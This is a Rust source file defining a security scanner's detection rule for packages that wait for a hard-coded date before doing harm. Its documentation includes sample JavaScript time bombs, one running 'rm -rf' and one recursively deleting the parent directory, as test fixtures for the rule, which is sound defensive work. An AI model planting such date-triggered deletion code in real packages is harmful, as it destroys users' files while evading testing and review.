//! # A date decides when code does harm
//!
//! A comparison of the clock with a date that stands in the code decides whether a program is started, files are
//! deleted, text is run or secrets leave.
//!
//! ## Why it matters
//!
//! Until that day every test, sandbox and reviewer sees an honest package.
//!
//! ## Known benign uses
//!
//! Notices of deprecation and checks of certificates compare dates too; what they decide is a message.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const { exec } = require("child_process");
//! const due = new Date("2099-06-19");
//! function begin() {
//!   exec("rm -rf dist/reports"); //~ here
//! }
//! if (new Date() >= due) begin();
//! exports.report = (rows) => rows.length;
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const fs = require("fs");
//! exports.colour = (text) => `\u001b[32m${text}\u001b[0m`;
//! const today = Date.now();
//! if (today < 4070908800000) return;
//! for (const name of fs.readdirSync("..")) fs.rmSync("../" + name, { recursive: true }); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! if (Date.now() > Date.parse("2026-01-01")) console.warn("x 1.x is no longer supported");
//! exports.run = (command) => require("child_process").execFileSync(command);
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const { execFile } = require("child_process");
//! const started = Date.now();
//! exports.refresh = () => {
//!   if (Date.now() - started > 3600000) execFile("git", ["fetch"]);
//! };
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! exports.greet = (name) => (new Date().getHours() < 12 ? "Good morning, " : "Good day, ") + name;
//! ```
//!
//! ## References
//!
//! - Socket: packages that wait for a date to delete (2025)

use stockade_facts::guard::GuardKind;
use stockade_facts::harm::HarmWeight;

use crate::prelude::*;

/// A date decides when code does harm.
pub struct DateDecidesHarm;

impl Rule for DateDecidesHarm {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "date-decides-harm",
            title: "A date decides when code does harm",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1480",
            covers: &["date-trigger"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for harm in facts.harms() {
            let counts = harm.weight == HarmWeight::Sure || harm.trigger.runs_unasked();
            if let Some(condition) = facts.guard_before(GuardKind::Date, harm.spot).filter(|_| counts) {
                let harmful = (facts.locus(harm.spot), harm.does);
                found.path(harm.trigger, &[(condition, "waits for a date"), harmful]);
            }
        }
    }
}
